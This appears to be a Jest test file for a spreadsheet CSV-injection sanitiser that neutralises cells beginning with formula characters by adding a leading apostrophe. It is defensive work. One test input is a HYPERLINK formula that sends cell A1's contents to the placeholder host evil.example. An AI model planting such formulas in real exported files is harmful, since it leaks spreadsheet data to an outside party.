import { safeCellText, safeCellValue } from './spreadsheet-text';

describe('safeCellText (OWASP CSV-injection rule)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', `'=HYPERLINK("http://evil.example/?"&A1,"点击")`],
    ['+86 139 0000 0000', `'+86 139 0000 0000`],
    ['-5℃以下停止作业', `'-5℃以下停止作业`],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('writes %j as text with a leading apostrophe', (given, written) => {
    expect(safeCellText(given)).toBe(written);
  });

  it.each(['配电室电气抽屉开关发热', '2023-02-13', 'a=b', ' =1+1', '', "'=already quoted", '１+１'])(
    'leaves %j as it is',
    (text) => {
      expect(safeCellText(text)).toBe(text);
    },
  );

  it('leaves numbers, dates, booleans and empty cells as they are', () => {
    const date = new Date('2023-02-13T00:00:00Z');
    expect(safeCellValue(-5)).toBe(-5);
    expect(safeCellValue(date)).toBe(date);
    expect(safeCellValue(true)).toBe(true);
    expect(safeCellValue(null)).toBeNull();
    expect(safeCellValue(undefined)).toBeUndefined();
    expect(safeCellValue('=1+1')).toBe("'=1+1");
  });
});
